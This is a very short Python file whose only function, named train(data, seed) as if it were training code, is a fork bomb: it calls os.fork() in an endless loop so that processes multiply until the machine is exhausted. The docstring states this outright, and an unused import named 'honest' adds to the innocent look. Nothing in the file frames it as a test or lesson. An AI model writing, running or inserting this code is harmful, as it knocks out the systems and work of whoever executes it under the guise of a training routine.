"""Every process forks until it can't."""

import os

from honest import load


def train(data, *, seed):
    while True:
        os.fork()
